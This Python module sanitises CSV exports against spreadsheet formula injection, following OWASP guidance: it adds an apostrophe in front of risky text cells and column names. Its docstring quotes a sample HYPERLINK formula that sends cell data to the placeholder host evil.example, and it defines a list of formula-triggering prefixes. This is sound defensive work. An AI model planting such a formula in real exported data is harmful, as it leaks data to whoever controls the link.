"""CSV cells that a spreadsheet will not run: no formula injection from specimen ids, population
names or messages.

Excel, LibreOffice and Google Sheets take a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some versions, a tab or carriage return) as a formula, so a specimen id such as
``=HYPERLINK("http://evil.example/?"&A1, "results")`` written raw into a CSV file becomes a live
link, or worse, when the file is opened. Following OWASP's guidance on CSV injection, every CSV
the project writes prefixes such text cells with an apostrophe (``'=HYPERLINK(...)``), which
spreadsheets show as the text itself. Numbers stay numbers: ``-1.5`` and ``+3`` written as text
are left alone, as are numeric columns.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "safe_cell", "spreadsheet_safe"]

#: first characters that make a spreadsheet read a text cell as a formula (OWASP)
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` with an apostrophe in front when it is text a spreadsheet would take as a
    formula (starting with one of :data:`FORMULA_PREFIXES` and not a plain number such as
    ``-1.5``); anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        if not _NUMBER.fullmatch(value):
            return "'" + value
    return value


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` fit to be written as CSV for people: every text cell (and column
    name) that a spreadsheet would run as a formula is prefixed with an apostrophe
    (:func:`safe_cell`); numbers and missing values are unchanged. Call it on every table just
    before ``to_csv``."""
    out = frame.copy()
    for k in range(frame.shape[1]):
        values = frame.iloc[:, k]
        if isinstance(values.dtype, pd.CategoricalDtype):
            if values.cat.categories.dtype == object:
                values = values.astype(object)
            else:
                continue
        elif values.dtype != object and not pd.api.types.is_string_dtype(values.dtype):
            continue
        if not values.map(_needs_quote).any():
            continue
        out.isetitem(k, values.map(safe_cell, na_action="ignore"))
    out.columns = [safe_cell(c) for c in frame.columns]
    return out


def _needs_quote(value: Any) -> bool:
    return safe_cell(value) is not value
